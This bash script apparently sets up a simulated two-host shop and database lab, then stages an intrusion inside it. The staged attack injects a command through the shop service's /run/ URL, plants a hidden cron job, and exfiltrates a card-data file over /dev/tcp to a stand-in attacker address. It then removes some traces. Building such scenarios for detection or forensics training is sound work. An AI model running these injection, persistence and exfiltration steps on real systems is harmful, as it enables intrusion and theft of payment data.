# shellcheck shell=bash disable=SC2034
HOST=app02
SECOND=db02
FORMAT=ENRICHED

# account NAME UID: an account of both hosts (they share /etc), without a password.
account() {
    echo "$1:x:$2:$2::/srv/home/$1:/bin/bash" >>/etc/passwd
    echo "$1:*:20000:0:99999:7:::" >>/etc/shadow
    echo "$1:x:$2:" >>/etc/group
    install -d -m 700 -o "$2" -g "$2" "/srv/home/$1" "/srv/home/$1/.ssh"
}

keys() {
    local name
    for name in host app admin; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "/srv/$name.key"; done
    cat /srv/app.key.pub /srv/admin.key.pub >/srv/home/dbadmin/.ssh/authorized_keys
    install -m 600 -o shop /srv/app.key /srv/home/shop/.ssh/id_ed25519
    mv /srv/admin.key "$work/admin.key"
    rm /srv/app.key
}

daemons() {
    rm -f /etc/cron.d/* /etc/crontab
    printf 'SHELL=/bin/sh\n* * * * * shop grep -c item /srv/shop/prices.csv > /srv/shop/report.txt\n' >/etc/cron.d/report
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    mkdir -p /run/sshd
    inside /usr/sbin/cron -f &
    inside2 /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/bin/python3 -S -B /srv/shop/service.py >/dev/null 2>&1 &
}

scenario() {
    mkdir -p /srv/shop /srv/db
    cp "$folder/../jobs/service.py" /srv/shop
    echo "item,price" >/srv/shop/prices.csv
    echo "name,card" >/srv/db/cards.csv
    echo "item,stock" >/srv/db/stock.csv
    account shop 4050
    account dbadmin 4150
    chown shop /srv/shop
    keys
    outside /usr/bin/python3 -S -B -m http.server --bind 203.0.113.9 8443 --directory /srv >/dev/null 2>&1 &
    daemons
    sleep 2
    local options=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null)
    outside ssh "${options[@]}" -b 192.0.2.7 -i "$work/admin.key" dbadmin@10.88.0.20 "cat /srv/db/stock.csv > /tmp/stock.copy"
    sleep 1
    local run="ssh ${options[*]} dbadmin@10.88.0.20 'cat /srv/db/cards.csv > /tmp/.c; exec 3<>/dev/tcp/203.0.113.9/8443; cat /tmp/.c >&3'"
    local plant="printf '%s\n' \"$run\" > /srv/shop/.r; echo '* * * * * shop /bin/sh /srv/shop/.r' > /etc/cron.d/refresh"
    outside curl -s -G --interface 198.51.100.23 "http://10.88.0.10:8080/run/$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$plant")"
    sleep 75
    outside ssh "${options[@]}" -b 192.0.2.7 -i "$work/admin.key" dbadmin@10.88.0.20 "rm -f /tmp/stock.copy"
    sleep 1
    rm -f /tmp/.c /run/crond.pid
}
